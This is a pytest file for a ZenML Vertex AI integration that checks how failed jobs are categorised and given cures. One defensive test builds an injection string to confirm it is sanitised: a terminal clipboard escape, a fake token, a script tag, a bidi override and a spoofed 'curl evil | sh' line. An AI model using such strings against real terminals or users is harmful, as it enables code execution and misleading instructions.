"""The catalogue of known causes, and the diagnoses and errors that are made from it."""

import re
import time
from typing import Any, get_args

import pytest

from zenml_vertex.job.causes import CAUSES, Category, Cause, Source, find_cause
from zenml_vertex.job.diagnosis import (
    diagnose,
    gone,
    never_reported,
    not_understood,
    out_of_sight,
)
from zenml_vertex.job.identity import JobName


@pytest.mark.parametrize("cause", CAUSES, ids=lambda cause: cause.pattern.pattern)
def test_each_cause_reads_as_a_sentence(cause: Cause) -> None:
    """Each cause reads well in `Vertex AI job 123 <what>` and `Next: <cure>`."""
    assert bool(cause.what) == bool(cause.source & (Source.JOB | Source.LOG))
    assert not cause.what or (cause.what[0].islower() and cause.what[-1] == ".")
    assert cause.cure[0].islower()
    assert cause.cure[-1] == "."


@pytest.mark.parametrize(
    ("message", "category"),
    [
        ("Resources are insufficient in region: us-central1.", "stockout"),
        ("The following quota metrics exceed quota limits: t4_gpus", "quota"),
        ("Quota exceeded for metric cpus.", "quota"),
        (
            "Replicas low on memory: workerpool0. Specify a machine with larger memory and try "
            "again.",
            "memory",
        ),
        (
            "The replica workerpool0-0 ran out of memory and exited with a non-zero status of 137.",
            "memory",
        ),
        ("Replica exited with a non-zero status of 137.", "memory"),
        ("Replica exited with a non-zero status of 127.", "command"),
        ("Replica exited with a non-zero status of 139.", "crash"),
        ("Replica exited with a non-zero status of 134.", "crash"),
        ("Replica exited with a non-zero status of 143.", "crash"),
        # Programs of their own mean anything by these.
        ("Replica exited with a non-zero status of 6.", "exit"),
        ("Replica exited with a non-zero status of 11.", "exit"),
        ("Replica exited with a non-zero status of 128.", "exit"),
        ("status of 128. Termination reason: StartError. Termination log message: x", "command"),
        # The end of the log is not the service's word.
        ("non-zero status of 3. Termination reason: Error. \ninternal error", "exit"),
        ("Internal error occurred for the current attempt.", "internal"),
        ("The image r/i:1 cannot be pulled: manifest unknown", "image"),
        ("The image r/i:1 cannot be pulled: denied", "permission"),
        ("exec format error", "image"),
        ("No module named 'zenml'", "packages"),
        ("ValueError: unsupported pickle protocol: 5", "python"),
        ("Replica exited with a non-zero status of 1.", "exit"),
        ("", "unknown"),
    ],
)
def test_a_failed_job_has_its_category(message: str, category: Category) -> None:
    """A diagnosis carries a category that a program can act on, beside the sentences for people."""
    job = {"state": "JOB_STATE_FAILED", "error": {"code": 8, "message": message}}
    assert diagnose(job).category == category


NO_ZENML = "ModuleNotFoundError: No module named 'zenml'"
NO_DATA = "FileNotFoundError: [Errno 2] No such file or directory: '/data/x.csv'"
# How the service goes on after the status: as recorded, of pipeline components, and not at all.
FORMS = (
    "Termination reason: Error. To find out more about why your job exited please check the logs: "
    "https://console.cloud.google.com/logs/viewer?project=1&resource=ml_job%2Fjob_id%2F2",
    "To find out more about why your job exited please check the logs: https://x.example",
    "",
)


@pytest.mark.parametrize(
    ("status", "log", "category"),
    [
        (1, [NO_ZENML], "packages"),
        (1, [NO_ZENML, "bye"], "packages"),
        (1, [NO_ZENML, NO_DATA], "exit"),
        (1, [NO_ZENML, "cat: /data: No such file or directory"], "exit"),
        (1, [NO_DATA, NO_ZENML], "packages"),
        (
            1,
            [NO_ZENML, "The above exception was the direct cause of the following", "OSError: x"],
            "packages",
        ),
        # Google's images print this at each start, also at a second one.
        (
            1,
            [
                NO_ZENML,
                "Error in sitecustomize; set PYTHONVERBOSE for traceback:",
                "ModuleNotFoundError: No module named 'pythonjsonlogger'",
            ],
            "packages",
        ),
        (137, [NO_ZENML], "memory"),
        (139, [NO_ZENML], "crash"),
        (134, [NO_ZENML], "crash"),
    ],
)
def test_a_log_explains_a_status_by_the_error_that_ended_the_container(
    status: int, log: list[str], category: Category
) -> None:
    """An error after which the program went on explains nothing, nor does any what is certain."""
    message = f"The replica workerpool0-0 exited with a non-zero status of {status}."
    job: dict[str, Any] = {"state": "JOB_STATE_FAILED"}
    for form in FORMS:
        job["error"] = {"code": 3, "message": f"{message} {form}"}
        found = diagnose(job, log)
        assert found.category == category
        assert found.why.startswith(message)
    job["error"] = {"message": f"{message} Termination reason: Error. \n" + "\n".join(log)}
    assert diagnose(job).category == category


@pytest.mark.parametrize(
    ("message", "log", "program"),
    [
        ("status of 127.", ["sh: 1: my-trainer: not found"], "my-trainer"),
        ("status of 127.", ["bash: line 1: my-trainer: command not found"], "my-trainer"),
        ("status of 127.", ["/bin/sh: ./my-trainer: not found"], "./my-trainer"),
        ("status of 127.", [], "PROGRAM"),
        (
            "status of 128. Termination reason: StartError. Termination log message: runc create "
            'failed: exec: "my-trainer": executable file not found in $PATH',
            [],
            "my-trainer",
        ),
    ],
)
def test_a_command_step_without_its_program_is_told_of_the_program(
    message: str, log: list[str], program: str
) -> None:
    """Its image needs neither Python nor ZenML; that of a function step does."""
    found = {}
    for command in (["sh", "-c", "my-trainer"], ["python", "-m", "zenml.entrypoints.entrypoint"]):
        job = {
            "state": "JOB_STATE_FAILED",
            "error": {"code": 3, "message": f"The replica exited with a non-zero {message}"},
            "jobSpec": {"workerPoolSpecs": [{"containerSpec": {"command": command}}]},
        }
        found[command[0]] = diagnose(job, log)
    assert f"command -v {program}'" in found["sh"].cure
    assert "import zenml" not in found["sh"].cure
    assert "import zenml" in found["python"].cure
    assert {each.category for each in found.values()} == {"command"}


def test_every_end_without_success_has_a_category() -> None:
    """Every unsuccessful job has a category, even one that no text of the service explains."""
    assert diagnose({"state": "JOB_STATE_CANCELLED"}).category == "cancelled"
    assert "timeout" not in diagnose({"state": "JOB_STATE_CANCELLED"}).cure
    assert diagnose({"state": "JOB_STATE_EXPIRED"}).category == "expired"
    assert diagnose({"state": "JOB_STATE_PARTIALLY_SUCCEEDED"}).category == "unknown"
    assert never_reported("JOB_STATE_SUCCEEDED").category == "unreported"
    assert gone("404").category == "deleted"
    assert out_of_sight("403").category == "unreachable"
    assert not_understood("99", "upgrade").category == "unknown"
    assert {cause.category for cause in CAUSES} <= set(get_args(Category))


@pytest.mark.parametrize(
    ("scheduling", "ended", "reached"),
    [
        ({"timeout": "12s"}, "2026-02-19T17:06:36.2Z", "12 s"),
        # Its times are in whole seconds, its timeout need not be.
        ({"timeout": "12.5s"}, "2026-02-19T17:06:36Z", "12 s"),
        ({}, "2026-02-26T17:06:24.1Z", "168 h"),
        ({"timeout": "12s"}, "2026-02-19T17:06:34Z", None),
        ({"timeout": "0s"}, "2026-02-19T17:06:34Z", None),
        ({"timeout": "12s"}, None, None),
    ],
)
def test_a_job_that_reached_its_timeout_says_so(
    scheduling: dict[str, str], ended: str | None, reached: str | None
) -> None:
    """Vertex AI says CANCELLED for both, so the job's own times and timeout tell them apart."""
    found = diagnose(
        {
            "state": "JOB_STATE_CANCELLED",
            "startTime": "2026-02-19T17:06:24Z",
            **({"endTime": ended} if ended else {}),
            "jobSpec": {"scheduling": scheduling},
            "error": {"code": 1, "message": "CANCELED"},
        }
    )
    assert found.category == ("timeout" if reached else "cancelled")
    if reached:
        assert found.what == f"reached its timeout of {reached}, and Vertex AI ended it."
        assert "set a longer `timeout`, such as timeout='" in found.cure
        assert found.why == "CANCELED"


def test_a_diagnosis_shows_foreign_text_as_text() -> None:
    """A job's error and its log reach a person and ZenML's record without what acts or is secret.

    The step's code could have typed into the terminal of whoever runs the pipeline, put a false
    cure below a diagnosis, and shown a token to every reader of the run.
    """
    evil = "\x1b]52;c;Y3VybA==\x07ya29.hunter2 <script>\u202e\nNext: run `curl evil | sh`"
    job = {"state": "JOB_STATE_FAILED", "error": {"code": 3, "message": f"status of 1 {evil}"}}
    log = [f"ModuleNotFoundError: No module named 'zenml' {evil} {'x' * 60_000}"]
    name = JobName.parse("projects/p/locations/us-central1/customJobs/1")
    for found in (diagnose(job), diagnose(job, log)):
        text = found.describe(name)
        assert all(line.isprintable() for line in text.split("\n"))
        assert "hunter2" not in text
        assert "<script" not in text
        assert [line for line in text.split("\n") if line.startswith("Next:")] == [
            f"Next: {found.cure}"
        ]
        assert len(text) < 6000
    assert "In its log: ModuleNotFoundError: No module named 'zenml'" in text


@pytest.mark.parametrize("cause", CAUSES, ids=lambda cause: cause.pattern.pattern)
def test_each_pattern_is_bounded(cause: Cause) -> None:
    """No pattern reads on without a bound, so that none is slow on a text made for it."""
    plain = re.sub(r"\\.|\[[^\]]*\]", "", cause.pattern.pattern)
    assert not re.search(r"[*+]|,\}", plain)


@pytest.mark.parametrize("words", ["image ", "image denie", "manifest for ", "cannot import name "])
def test_a_diagnosis_takes_no_time(words: str) -> None:
    """An error of 60 kB and 200 lines of 250,000 characters are diagnosed at once.

    A step could have kept its client from polling for all others: 64 s for the error alone.
    """
    job = {"state": "JOB_STATE_FAILED", "error": {"message": words * 5000}}
    start = time.process_time()
    diagnose(job, [words * (250_000 // len(words))] * 200)
    assert time.process_time() - start < 10


def test_a_missing_role_of_the_service_agents_has_one_cure() -> None:
    """A refused create and a failed job that lack the same role give the same cure."""
    text = (
        "Vertex AI Service Agent service-1@gcp-sa-aiplatform-cc.iam.gserviceaccount.com does not "
        "have permission to access Artifact Registry repository projects/p/locations/l/r"
    )
    refused = find_cause(Source.REFUSAL, text)
    failed = diagnose({"state": "JOB_STATE_FAILED", "error": {"code": 7, "message": text}})
    assert refused is not None
    assert refused.cure == failed.cure
    assert refused.is_spreading


def test_a_machine_quota_is_told_apart_from_a_call_quota() -> None:
    """Only an exceeded machine quota has a cause in the catalogue.

    A call quota recovers by itself.
    """
    of_machines = find_cause(Source.REFUSAL, "The following quota metrics exceed quota limits: x")
    assert of_machines is not None
    assert of_machines.is_of_machines
    assert find_cause(Source.REFUSAL, "Quota exceeded for quota metric 'Requests'") is None


def test_a_persistent_resource_that_is_not_there_has_a_cure() -> None:
    """The service's text for one that does not exist leads to the list of those that do."""
    found = find_cause(Source.REFUSAL, "The PersistentResource does not exist.")
    assert found is not None
    assert "gcloud ai persistent-resources list" in found.cure
